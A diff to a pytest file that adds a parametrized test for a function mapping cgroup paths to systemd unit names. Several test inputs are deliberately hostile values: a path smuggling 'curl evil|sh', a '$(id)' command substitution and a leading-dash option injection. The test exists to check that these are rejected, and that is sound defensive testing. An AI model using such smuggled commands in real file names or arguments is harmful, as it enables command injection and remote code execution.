@@ -7,7 +7,7 @@ import pytest
 from tests.tree import Tree
 
 from sparkd.host import Host
-from sparkd.host.processes import Process, container_id, parse_stat
+from sparkd.host.processes import Process, container_id, parse_stat, systemd_unit
 
 ID = "0123456789abcdef" * 4
 INNER = "f" * 64
@@ -128,3 +128,18 @@ def test_two_thousand_processes_are_scanned_within_a_fifth_of_a_second(tree: Tre
         assert len(host.processes().processes) == 2_000
         took.append(time.perf_counter() - began)
     assert min(took) < 0.2
+
+
+@pytest.mark.parametrize(
+    ("path", "unit", "of_user"),
+    [
+        ("system.slice/ollama.service/inner.scope", "ollama.service", False),
+        (r"system.slice/app-a\x2db@1.service", r"app-a\x2db@1.service", False),
+        ("user.slice/user@1000.service/app.slice/ds4.service", "ds4.service", True),
+        ("user.slice/user@1000.service/app.slice/x; curl evil|sh #.service", "user@1000.service", False),
+        ("user.slice/user@1000.service/-Hevil.service", "user@1000.service", False),
+        ("x$(id).service", "", False),
+    ],
+)
+def test_a_folder_of_cgroups_is_a_unit_where_systemd_accepts_the_name(path: str, unit: str, of_user: bool) -> None:
+    assert systemd_unit(f"0::/{path}\n") == (unit, of_user)
